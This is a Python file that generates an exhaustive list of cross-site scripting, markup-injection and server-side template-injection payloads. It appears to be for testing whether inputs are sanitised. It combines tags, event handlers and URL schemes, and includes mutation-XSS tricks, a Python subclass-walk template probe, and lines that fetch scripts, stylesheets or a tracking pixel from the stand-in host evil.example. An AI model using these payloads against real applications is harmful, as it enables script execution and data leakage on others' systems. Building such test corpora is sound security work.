"""Texts that want to be more than text: markup that runs, templates that compute. Made by rule, to leave none out.

Each payload calls `hacked(...)` or asks for something at `evil.example`; from outside one can tell whether it did.
"""

from collections.abc import Iterator
from itertools import product

CALL = "hacked(1)"
TAGS = ("img", "svg", "video", "audio", "iframe", "object", "embed", "body", "input", "details", "marquee", "a", "x")
HANDLERS = ("onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
WRITTEN = (
    "<{tag} src=x {handler}={call}>",
    "<{tag}/src='x'/{handler}='{call}'>",
    '"><{tag} {handler}="{call}" autofocus tabindex=1 open>',
    "</li></ol></main><{tag} {handler}={call}>",
    "<{tag}\n{handler}\n=\n{call}\n>",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "\x01javascript:",
    "vbscript:",
    "data:text/html;base64,",
    "blob:",
)
CARRIERS = (
    '<a href="{url}">x</a>',
    "[x]({url})",
    "<{url}|x>",
    '<form action="{url}"><button>x',
    "{url}",
    '<base href="{url}">',
)
ALONE = (
    "<script>{call}</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>{call}//",
    "</textarea></title></style><script>{call}</script>",
    "<!--<img src='--><img src=x onerror={call}>'>",
    "<![CDATA[<script>{call}</script>]]>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={call}&gt;'>",
    "<svg><style><img src=x onerror={call}></style>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><script>{call}</script></template>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{{background:url(//evil.example/x)}}</style>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/x 1x'>",
    "<div style='background:url(//evil.example/x)'>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;img src=x onerror={call}&#62;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "'-{call}-'",
    '";{call};//',
    "`${{{call}}}`",
    "</script><script>{call}</script>",
    "<script>{call}</script\n>",
    "<iframe srcdoc='<script>parent.{call}</script>'>",
    "<portal src=javascript:{call}>",
    "![x](javascript:{call})",
    "![x](//evil.example/x.png)",
    '{{"type":"image","image_url":"https://evil.example/x.png"}}',
    '"}}]}},{{"type":"section"}}',
    "<!channel> <!here> <@U0ADMIN> <https://evil.example|your bank>",
)
TEMPLATES = (
    "{{7*191}}",
    "{{ config }}",
    "{% for x in range(1337) %}x{% endfor %}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "{{ self.text() }}",
    "{% raw %}{{7*191}}{% endraw %}",
    "{# gone #}",
)
"""What another one's template engine would compute: 7 * 191 is 1337."""


def scripts() -> Iterator[str]:
    """Yield every payload that wants to run or to fetch something."""
    for tag, handler, written in product(TAGS, HANDLERS, WRITTEN):
        yield written.format(tag=tag, handler=handler, call=CALL)
    for scheme, carrier in product(SCHEMES, CARRIERS):
        yield carrier.format(url=f"{scheme}{CALL}")
    for alone in ALONE:
        yield alone.format(call=CALL)
